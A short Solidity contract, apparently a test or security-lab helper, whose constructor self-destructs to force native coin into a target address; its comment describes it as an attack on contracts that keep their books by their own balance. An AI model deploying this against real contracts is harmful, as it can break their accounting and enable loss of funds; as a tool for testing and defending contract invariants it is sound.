// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// Attacks books kept by the contract's own balance: sends native coin that nothing can refuse.
contract ForceSend {
    constructor(address payable target) payable {
        selfdestruct(target);
    }
}
